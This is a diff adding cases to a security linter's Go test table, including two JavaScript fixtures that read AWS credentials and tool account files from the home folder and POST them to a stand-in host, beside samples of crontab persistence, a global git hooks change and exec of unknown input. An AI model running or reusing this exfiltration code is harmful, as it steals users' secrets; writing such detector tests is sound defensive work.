@@ -182,6 +182,9 @@ var codeCases = []lintCase{
 	{"s.rb", "persistence", "puts \"#{`crontab x.txt`}\"\n", "warning", 1},
 	{"hooks.py", "autorun-config", "raise SystemExit(\n    f\"core.hooksPath is set globally to {p!r}.\\n\"\n    \"Set a repo-local path (git config --local core.hooksPath .githooks) first.\"\n)\n", "note", 3},
 	{"hooks.py", "autorun-config", "import subprocess\nsubprocess.run(\n    \"git config --global core.hooksPath ~/.hooks\", shell=True)\n", "warning", 3},
+	// Folders and names in two lists, joined in two loops: a secret folder with a name the analysis cannot pick.
+	{"q.js", "secret-exfil", "const os = require('os'), fs = require('fs'), path = require('path');\nconst HOME = os.homedir();\nconst ROOTS = [[HOME, '.tool'], [HOME, '.aws']];\nconst NAMES = ['accounts.json', 'credentials'];\nconst found = {};\nfor (const parts of ROOTS) {\n  for (const name of NAMES) {\n    const p = path.join(...parts, name);\n    found[p] = fs.readFileSync(p, 'utf8');\n  }\n}\nfetch('https://x.example/q', {method: 'POST', body: JSON.stringify(found)});\n", "error", 12},
+	{"q.js", "secret-exfil", "const os = require('os'), fs = require('fs'), path = require('path');\nconst HOME = os.homedir();\nconst ROOTS = [[HOME, '.tool'], [HOME, '.config', 'tool']];\nconst NAMES = ['accounts.json', 'carriers.json'];\nconst found = {};\nfor (const parts of ROOTS) {\n  for (const name of NAMES) {\n    const p = path.join(...parts, name);\n    found[p] = fs.readFileSync(p, 'utf8');\n  }\n}\nfetch('https://x.example/q', {method: 'POST', body: JSON.stringify(found)});\n", "", 0},
 	// An item got from a container the analysis does not follow is unknown, never nothing.
 	{"p.py", "dynamic-exec", "import importlib\nLOADERS = {\".csv\": \"delimited\"}\ndef load(path):\n    x = LOADERS.get(path)\n    return importlib.import_module(f\"profilers.{x}\")\n", "", 0},
 	{"p.py", "dynamic-exec", "def load(d, path):\n    exec(d.get(path))\n", "warning", 2},
